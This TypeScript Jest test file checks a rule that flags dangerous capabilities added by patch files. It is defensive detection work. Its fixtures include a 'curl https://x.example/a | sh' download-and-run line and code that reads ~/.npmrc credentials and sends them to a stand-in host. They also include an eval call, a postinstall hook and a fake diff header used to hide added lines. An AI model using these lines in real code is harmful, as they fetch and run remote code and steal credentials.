import { describe, expect, it } from '@jest/globals';
import { judgeFiles } from '../../src/judge-files.ts';
import { pathsOf } from '../../src/model/repository-paths.ts';
import { policyOf } from '../../src/policy/build.ts';
import rule from '../../src/repository-rules/patch-adds-capability.ts';
import { readPatch } from '../../src/repository-rules/read/patch.ts';

function judged(now: string, before?: string) {
  const files = {
    now: new Map([['patches/a.patch', now]]),
    before: new Map(before === undefined ? [] : [['patches/a.patch', before]]),
    paths: pathsOf([]),
  };
  const { fileFindings, fileGaps } = judgeFiles({ rules: [rule], files, policy: policyOf({}, 'recommended'), now: 0 });
  return {
    found: fileFindings.map(({ subject, confidence, message }) => [subject.kind === 'file' && subject.line, confidence, message]),
    gaps: fileGaps,
  };
}

const patch = (path: string, ...lines: readonly string[]) => {
  const [old, now] = [lines.filter((line) => !line.startsWith('+')).length, lines.filter((line) => !line.startsWith('-')).length];
  return `diff --git a/${path} b/${path}\nindex 1..2 100644\n--- a/${path}\n+++ b/${path}\n@@ -1,${old} +1,${now} @@ f()\n${lines.join('\n')}\n`;
};

describe('what a patch adds', () => {
  it.each([
    ['downloads and runs', ["+require('child_process').exec('curl https://x.example/a | sh')"], 'high'],
    [
      'credentials and a host',
      [" const fs = require('fs');", "+const t = fs.readFileSync(home + '/.npmrc');", "+fetch('https://x.example/?' + t);"],
      'high',
    ],
    ['eval', ['+eval(text);'], 'medium'],
    ['a host', ["+fetch('https://x.example/')"], 'medium'],
  ])('%s', (_, lines, confidence) => {
    expect(judged(patch('lib/index.js', ...lines)).found).toEqual([
      [expect.any(Number), confidence, expect.stringContaining('what the patch adds to lib/index.js')],
    ]);
  });

  it('is placed at the line of the patch', () => {
    expect(judged(patch('index.js', ' a', '-b', '+c', "+fetch('https://x.example/')")).found[0]?.[0]).toBe(9);
  });

  it('is nothing where the file could do it before', () => {
    expect(
      judged(patch('index.js', " fetch('https://x.example/');", "-fetch('https://x.example/', {})", "+fetch('https://x.example/', { retry: 1 })"))
        .found,
    ).toEqual([]);
  });

  it('may be hidden behind lines that look like the head of another file', () => {
    const lines = [' a', '+++ b/README.md', "+fetch('https://x.example/')"];
    expect(judged(patch('index.js', ...lines)).found).toHaveLength(1);
    expect(readPatch(patch('index.js', ...lines))).toMatchObject({
      files: [{ path: 'index.js', after: "a\n++ b/README.md\nfetch('https://x.example/')" }],
    });
  });

  it('may be a script of the package, or be binary', () => {
    expect(judged(patch('package.json', ' "scripts": {', '+    "postinstall": "node x",')).found).toEqual([
      [7, 'high', expect.stringContaining('runs on install: postinstall: node x')],
    ]);
    expect(judged('diff --git a/x.node b/x.node\nGIT binary patch\nliteral 3\n').gaps).toHaveLength(1);
  });
});
